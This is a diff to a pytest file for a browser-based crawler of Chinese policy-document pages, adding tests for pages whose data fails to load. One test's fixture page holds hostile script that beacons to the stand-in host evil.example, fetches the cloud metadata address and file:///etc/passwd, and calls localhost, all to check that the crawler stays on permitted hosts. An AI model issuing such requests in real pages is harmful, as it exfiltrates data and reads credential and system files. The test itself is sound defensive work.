@@ -18,6 +18,7 @@ from crawler.settings import CHINA
 pytestmark = pytest.mark.skipif(bool(unavailable()), reason=f"no browser: {unavailable()}")
 
 HOST = "http://www.linjiang.example"
+ROW = '<ul><li><a href="/d/1.html">关于第一号事项的通知</a><span>2026-05-01</span></li></ul>'
 ROWS = """
 <html><head><title>政策文件</title></head><body><ul id="rows"></ul><a class="next" id="next">下一页</a><script>
 let page = 1;
@@ -88,13 +89,16 @@ def test_a_later_page_is_reached_from_the_first_where_a_crawl_goes_on() -> None:
 
 
 def test_nothing_beyond_the_permitted_hosts_is_asked_for() -> None:
-    page = """<html><body><p id="t">空</p><img src="/a.png"><script>
+    page = (
+        f"<html><body>{ROW}"
+        + """<p id="t">空</p><img src="/a.png"><script>
       new Image().src = "http://evil.example/x.png"; navigator.sendBeacon("http://evil.example/b", "1");
       fetch("http://169.254.169.254/latest").catch(() => 0); fetch("file:///etc/passwd").catch(() => 0);
       fetch("http://127.0.0.1:1/").catch(() => 0); try { new WebSocket("ws://evil.example/"); } catch (e) {}
       alert("请安装插件"); window.open("http://evil.example/pop");
       document.getElementById("t").innerText = "已完成";
     </script></body></html>"""
+    )
     site = Site({"/list/": page})
     assert "已完成" in texts(shown(site, 1))[0]
     assert site.asked == [f"{HOST}/list/"]
@@ -107,9 +111,12 @@ def test_a_list_whose_data_did_not_come_is_no_list() -> None:
 
 
 def test_a_page_that_never_rests_ends_with_patience() -> None:
-    page = """<html><body><p id="t">0</p><script>
+    page = (
+        f"<html><body>{ROW}"
+        + """<p id="t">0</p><script>
       setInterval(() => { document.getElementById("t").innerText = Math.random(); fetch("/tick").catch(() => 0); }, 50);
     </script></body></html>"""
+    )
     site = Site({"/list/": page, "/tick": "[]"})
     (found,) = shown(site, 1, patience=3)
     assert isinstance(found, Shown)
@@ -119,3 +126,33 @@ def test_a_page_that_never_rests_ends_with_patience() -> None:
 def test_a_page_that_cannot_be_had_is_said_to_be_so() -> None:
     (found,) = shown(Site({}), 1)
     assert isinstance(found, Refusal) and found.kind == "browser"
+
+
+EMPTY_WITHOUT = """
+<html><head><title>政策文件</title></head><body><ul id="rows"></ul><p id="none"></p><script>
+async function fill() {
+  let rows = [];
+  try { rows = (await (await fetch("%s")).json()).data || []; } catch (error) {}
+  document.getElementById("rows").innerHTML = rows.map(n => `<li><a href="/d/${n}.html">第${n}号</a></li>`).join("");
+  document.getElementById("none").innerText = rows.length ? "" : "暂无数据";
+}
+fill();
+</script></body></html>"""
+
+
+@pytest.mark.parametrize(
+    ("data", "answers", "why"),
+    [
+        ("http://api.elsewhere.example/list", {}, "api.elsewhere.example 不在采集范围内"),
+        ("/api/list", {"/api/list": '{"success":false,"msg":"系统繁忙"}'}, "出错信息"),
+        ("/api/list", {"/api/list": "<html><script>$_ts=window['$_ts'];</script></html>"}, "访问防护"),
+    ],
+)
+def test_page_that_says_it_is_empty_because_its_data_was_not_had(data: str, answers: dict[str, str], why: str) -> None:
+    (found,) = shown(Site({"/list/": EMPTY_WITHOUT % data, **answers}), 1)
+    assert isinstance(found, Refusal) and found.kind == "browser" and why in found.detail
+
+
+def test_page_whose_data_say_that_there_is_nothing() -> None:
+    (found,) = shown(Site({"/list/": EMPTY_WITHOUT % "/api/list", "/api/list": '{"success":true,"data":[]}'}), 1)
+    assert isinstance(found, Shown) and "暂无数据" in found.html.decode()
